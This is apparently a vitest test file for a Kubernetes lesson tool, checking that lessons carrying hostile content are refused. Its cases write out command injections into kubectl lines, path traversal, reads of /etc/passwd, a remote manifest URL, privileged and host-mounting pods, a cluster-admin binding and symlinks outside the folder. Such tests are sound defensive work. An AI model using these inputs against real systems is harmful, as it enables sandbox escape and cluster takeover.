import { cp, mkdir, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { LESSON_FOLDER } from '../e2e/program.ts'
import { openPlace, type ProgramPlace } from './run-program.ts'

let place: ProgramPlace
let folder: string
beforeEach(async () => {
  place = await openPlace()
  folder = join(place.folder, '08-deny-egress')
  await cp(LESSON_FOLDER, folder, { recursive: true })
})
afterEach(() => place.close())

const edit = async (name: string, change: (text: string) => string) => {
  const text = await readFile(join(folder, name), 'utf8')
  const changed = change(text)
  expect(changed, 'the change found its place').not.toBe(text)
  await writeFile(join(folder, name), changed)
}
const inLesson = (from: string, to: string) => () =>
  edit('lesson.md', (text) => text.replace(from, () => to))
const inConsole = (line: string) =>
  inLesson('$ kubectl wait --for=condition=Ready pod/web\npod/web condition met', line)
const inWorld = (text: string) => () =>
  edit('world.yaml', (world) => `${world.trimEnd()}\n---\n${text}`)
const POD = 'apiVersion: v1\nkind: Pod\nmetadata: { name: evil, namespace: default }\nspec:\n'

describe('a lesson that means harm', () => {
  it.each<readonly [string, () => Promise<void>]>([
    ['writes above its work folder', inLesson('# foo-deny-egress.yaml\n', '# ../../evil.yaml\n')],
    ['writes to an absolute path', inLesson('# foo-deny-egress.yaml\n', '# /tmp/evil.yaml\n')],
    ['starts a program', inConsole('$ touch evil')],
    ['starts a program behind kubectl', inConsole('$ kubectl get pods; touch evil')],
    ['pipes into a program', inConsole('$ kubectl get pods | sh')],
    ['puts a program into a word', inConsole('$ kubectl get $(touch evil)')],
    ['redirects into a file', inConsole('$ kubectl get pods > evil')],
    ['copies out of a pod', inConsole('$ kubectl cp web:/etc/hosts evil')],
    ['opens an editor', inConsole('$ kubectl edit pod web')],
    ['opens a proxy', inConsole('$ kubectl proxy')],
    ['applies a file of this computer', inConsole('$ kubectl apply -f /etc/passwd')],
    ['applies a file above', inConsole('$ kubectl apply -f ../evil.yaml')],
    ['applies an address', inConsole('$ kubectl apply -f https://example.com/evil.yaml')],
    ['names another kubeconfig', inConsole('$ kubectl --kubeconfig=/etc/passwd get pods')],
    [
      'takes a solution from above',
      inLesson('from: solution/allow-dns.yaml', 'from: ../../evil.yaml'),
    ],
    [
      'takes a wrong answer from above',
      inLesson('file: wrong/types-missing.yaml', 'file: ../evil.yaml'),
    ],
    [
      'mounts a folder of the node',
      inWorld(
        `${POD}  containers: [{ name: a, image: alpine }]\n  volumes: [{ name: h, hostPath: { path: / } }]\n`,
      ),
    ],
    [
      'uses the network of the node',
      inWorld(`${POD}  hostNetwork: true\n  containers: [{ name: a, image: alpine }]\n`),
    ],
    [
      'is privileged',
      inWorld(
        `${POD}  containers: [{ name: a, image: alpine, securityContext: { privileged: true } }]\n`,
      ),
    ],
    [
      'makes itself an administrator',
      inWorld(
        'apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: { name: evil }\nroleRef: { apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin }\nsubjects: []\n',
      ),
    ],
    [
      'links to a file outside',
      async () => {
        await rm(join(folder, 'solution/deny.yaml'))
        await symlink('/etc/passwd', join(folder, 'solution/deny.yaml'))
      },
    ],
  ])('is refused before anything runs, where it %s', async (_what, harm) => {
    await harm()
    const [check, test] = await Promise.all([
      place.run(['lesson', 'check', folder]),
      place.run(['lesson', 'test', folder]),
    ])
    expect(check.code, check.stdout).toBe(1)
    expect(check.stdout).toMatch(/:\d+:\d+ {2}[a-z-]+ {2}\S/)
    expect(test.code).not.toBe(0)
    expect(test.stdout).toBe('')
    expect(
      (await readdir(place.folder, { recursive: true })).filter((name) =>
        /(?:^|\/)evil/.test(name),
      ),
    ).toEqual([])
  })

  it('a folder of links is not followed', async () => {
    const links = join(place.folder, '09-links')
    await mkdir(links)
    await symlink('/etc/passwd', join(links, 'lesson.md'))
    const { code, stdout, stderr } = await place.run(['lesson', 'check', links])
    expect(code).not.toBe(0)
    expect(stdout + stderr).not.toContain('root:')
  })
})
